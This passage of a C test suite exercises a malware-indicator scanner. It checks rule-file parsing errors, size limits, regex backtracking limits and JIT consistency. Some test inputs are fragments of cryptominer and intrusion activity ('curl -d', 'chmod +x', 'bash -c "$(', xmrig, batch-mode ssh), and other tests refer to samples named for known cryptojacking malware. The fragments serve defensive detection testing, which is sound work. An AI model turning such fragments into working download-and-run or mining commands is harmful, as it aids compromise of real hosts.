        indicators_scan(s, x, S, (const uint8_t *)"uname", 5, &r);
        CHECK(has(&r, "b2"));
    }
    indicators_scratch_free(x);
    indicators_free(s);

    s = indicators_load_mem("empty", "# nothing\n", 10, 0, err, sizeof(err));
    CHECK(s != NULL);
    CHECK_EQ(indicators_count(s), 0);
    indicators_free(s);

    expect_err("a 0 script miner x\n", "t.indicators:1:", "bad weight '0'");
    expect_err("# c\na 101 script miner x\n", "t.indicators:2:", "bad weight '101'");
    expect_err("a 07 script miner x\n", "t.indicators:1:", "bad weight");
    expect_err("a ten script miner x\n", "t.indicators:1:", "bad weight 'ten'");
    expect_err("a 5 scripts miner x\n", "t.indicators:1:", "bad scope 'scripts'");
    expect_err("a 5 script,script miner x\n", "t.indicators:1:", "bad scope");
    expect_err("a 5 script, miner x\n", "t.indicators:1:", "bad scope");
    expect_err("a 5 script mining x\n", "t.indicators:1:", "unknown category 'mining'");
    expect_err("a 5 script miner\n", "t.indicators:1:", "missing pattern");
    expect_err("a 5 script miner   \n", "t.indicators:1:", "missing pattern");
    expect_err("a\n", "t.indicators:1:", "missing weight");
    expect_err("Abc 5 script miner x\n", "t.indicators:1:", "bad name 'Abc'");
    expect_err("a_b 5 script miner x\n", "t.indicators:1:", "bad name");
    expect_err("a 5 script miner x\nb 5 script miner y\n\na 9 beacon recon z\n",
               "t.indicators:4:", "duplicate name 'a' (first on line 1)");
    expect_err("a 5 script miner x\nb 5 script miner (xmrig\n", "t.indicators:2:", "offset");
    expect_err("a 5 script miner x\nb 5 script miner (xmrig\n",
               "t.indicators:2:", "missing closing parenthesis");
    expect_err("a 5 script miner [z-a]\n", "t.indicators:1:", "pattern of 'a'");
    expect_err("a 5 script miner (*UTF)x\n", "t.indicators:1:", "pattern of 'a'");
    expect_err("a 5 script miner x*\n", "t.indicators:1:", "matches empty text");
    expect_err("a 5 script miner x\x01y\n", "t.indicators:1:", "control character \\x01");
    expect_err("a 5 script miner x\ry\n", "t.indicators:1:", "control character \\x0d");
    {
        static const char nul[] = "a 5 script miner x\nb 5 script miner y\0z\n";

        s = indicators_load_mem("t.indicators", nul, sizeof(nul) - 1, 0, err, sizeof(err));
        CHECK(s == NULL);
        CHECK(strstr(err, "t.indicators:2: control character \\x00") != NULL);
    }
    memset(big, 'x', sizeof(big));
    memcpy(big, "a 5 script miner ", 17);
    big[17 + INDICATOR_PATTERN_MAX] = '\n';
    big[18 + INDICATOR_PATTERN_MAX] = '\0';
    s = indicators_load_mem("t", big, strlen(big), 0, err, sizeof(err));
    CHECK(s != NULL); /* exactly the limit */
    indicators_free(s);
    big[17 + INDICATOR_PATTERN_MAX] = 'x';
    big[18 + INDICATOR_PATTERN_MAX] = '\n';
    big[19 + INDICATOR_PATTERN_MAX] = '\0';
    expect_err(big, "t.indicators:1:", "pattern longer than 1024");
    memset(big, 'a', 60);
    memcpy(big + 60, " 5 script miner x\n", 19);
    expect_err(big, "t.indicators:1:", "name longer than 47");

    /* the count and size limits */
    {
        size_t cap = (INDICATOR_MAX + 1) * 32, n = 0;
        char *many = malloc(cap);

        for (int i = 0; many && i <= INDICATOR_MAX; i++)
            n += (size_t)snprintf(many + n, cap - n, "n%d 1 script recon x%d\n", i, i);
        s = many ? indicators_load_mem("t.indicators", many, n, 0, err, sizeof(err)) : NULL;
        CHECK(s == NULL);
        CHECK(strstr(err, "t.indicators:513: more than 512") != NULL);
        free(many);
        s = indicators_load_mem("t.indicators", "x", INDICATOR_FILE_MAX + 1, 0, err, sizeof(err));
        CHECK(s == NULL);
        CHECK(strstr(err, "larger than") != NULL);
    }
}

/* indicators_load: the path names the errors; a missing file is an error. */
static void test_files(void)
{
    char dir[] = "/tmp/firedamp-ind-XXXXXX", path[256];
    struct indicator_set *s;
    FILE *f;

    s = indicators_load("/nonexistent/firedamp/x.indicators", err, sizeof(err));
    CHECK(s == NULL);
    CHECK(strstr(err, "/nonexistent/firedamp/x.indicators: ") != NULL);
    s = indicators_load("/tmp", err, sizeof(err));
    CHECK(s == NULL);
    CHECK(strstr(err, "not a regular file") != NULL);
    if (!mkdtemp(dir)) {
        CHECK(0);
        return;
    }
    snprintf(path, sizeof(path), "%s/bad.indicators", dir);
    f = fopen(path, "w");
    CHECK(f != NULL);
    if (!f)
        return;
    fputs("# a file\nok 5 script miner ok\nbad 5 script miner a)b\n", f);
    fclose(f);
    s = indicators_load(path, err, sizeof(err));
    CHECK(s == NULL);
    {
        char want[300];

        snprintf(want, sizeof(want), "%s:3: pattern of 'bad'", path);
        CHECK(strncmp(err, want, strlen(want)) == 0);
    }
    unlink(path);
    rmdir(dir);
}

/* ---- runaway matches ------------------------------------------------------------ */

static double cpu_now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* (a+)+$ against a run of a's ending in b backtracks exponentially: the limit stops it. */
static void test_match_limit(unsigned flags)
{
    static const char list[] = "evil 50 script evasion (a+)+$\nfine 7 script miner xmrig\n";
    struct indicator_set *s =
        indicators_load_mem("evil", list, sizeof(list) - 1, flags, err, sizeof(err));
    struct indicator_scratch *x = indicators_scratch_new(s);
    struct indicator_result r;
    char text[4096];
    double t0;

    CHECK(s != NULL && x != NULL);
    if (!s || !x)
        goto out;
    if (flags & INDICATORS_NO_JIT)
        CHECK_EQ(indicators_jit_count(s), 0);
    memset(text, 'a', sizeof(text));
    memcpy(text, "xmrig ", 6);
    text[sizeof(text) - 1] = 'b';
    t0 = cpu_now();
    indicators_scan(s, x, S, (const uint8_t *)text, sizeof(text), &r);
    CHECK(cpu_now() - t0 < 5.0);
    CHECK(r.errors >= 1);
    CHECK(!has(&r, "evil"));
    CHECK(has(&r, "fine")); /* the scan went on after the failed pattern */
    CHECK_EQ(r.score, 7);
    /* the scratch is still good afterwards */
    indicators_scan(s, x, S, (const uint8_t *)"aaaa", 4, &r);
    CHECK_EQ(r.errors, 0);
    CHECK(has(&r, "evil"));
out:
    indicators_scratch_free(x);
    indicators_free(s);
}

/* The interpreter (no JIT) gives the same answers as JIT on the shipped list. */
static void test_no_jit(void)
{
    struct indicator_set *s =
        indicators_load_mem(LIST_PATH, list_text, list_len, INDICATORS_NO_JIT, err, sizeof(err));
    struct indicator_scratch *x = indicators_scratch_new(s);
    const char *texts[] = {kinsing, graboid_xmr, graboid_worm, benign_installer, teamtnt};

    CHECK(s != NULL && x != NULL);
    if (!s || !x)
        goto out;
    CHECK_EQ(indicators_count(s), indicators_count(set));
    CHECK_EQ(indicators_jit_count(s), 0);
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        struct indicator_result a, b;

        scan(set, scr, S | B, texts[i], &a);
        scan(s, x, S | B, texts[i], &b);
        CHECK_EQ(b.errors, 0);
        CHECK_EQ(a.score, b.score);
        CHECK_EQ(a.nhits, b.nhits);
        for (unsigned k = 0; k < a.nhits && k < b.nhits; k++)
            CHECK_STR(a.hit[k].name, b.hit[k].name);
    }
    for (size_t i = 0; i < sizeof(positives) / sizeof(positives[0]); i++) {
        struct indicator_result b;

        scan(s, x, positives[i].scope, positives[i].text, &b);
        CHECK(has(&b, positives[i].name));
    }
out:
    indicators_scratch_free(x);
    indicators_free(s);
}

/* A 64 KiB hostile text built from the patterns' own anchors: no errors, no hang. */
static void test_hostile_text(void)
{
    static const char *const units[] = {
        "curl -d x ", "chmod +x a; ",          "kill ; ",  "bash -c \"$(", "Linux+a+1.2+",
        "* * * * * ", "ssh -o BatchMode=yes ", "urlopen ", "urlopen\n",    "xmrig kill "};
    static char text[65536];
    struct indicator_result r;
    double t0 = cpu_now();

    for (size_t u = 0; u < sizeof(units) / sizeof(units[0]); u++) {
        size_t l = strlen(units[u]);

        for (size_t i = 0; i < sizeof(text); i++)
            text[i] = units[u][i % l];
        indicators_scan(set, scr, S | B, (const uint8_t *)text, sizeof(text), &r);
        CHECK_EQ(r.errors, 0);
    }
    CHECK(cpu_now() - t0 < 10.0); /* ~0.2 s in all on a loaded laptop-class core */
}

int main(void)
{
    FILE *f;

    set = indicators_load(LIST_PATH, err, sizeof(err));
    if (!set) {
        fprintf(stderr, "cannot load %s: %s\n", LIST_PATH, err);
        CHECK(0);
        return check_done();
    }
    scr = indicators_scratch_new(set);
    CHECK(scr != NULL);
    CHECK(indicators_count(set) >= 60);
    CHECK(indicators_jit_count(set) <= indicators_count(set));
    f = fopen(LIST_PATH, "rb");
    list_text = malloc(INDICATOR_FILE_MAX);
    if (f && list_text)
        list_len = fread(list_text, 1, INDICATOR_FILE_MAX, f);
    if (f)
        fclose(f);
    CHECK(list_len > 0);

    test_each_indicator();
    test_long_examples();
    test_thresholds();
    test_scope_and_order();
    test_caps();
    test_format();
    test_files();
    test_match_limit(0);
    test_match_limit(INDICATORS_NO_JIT);
    test_no_jit();
    test_hostile_text();

    indicators_scratch_free(scr);
    indicators_free(set);
    free(list_text);
    return check_done();
}
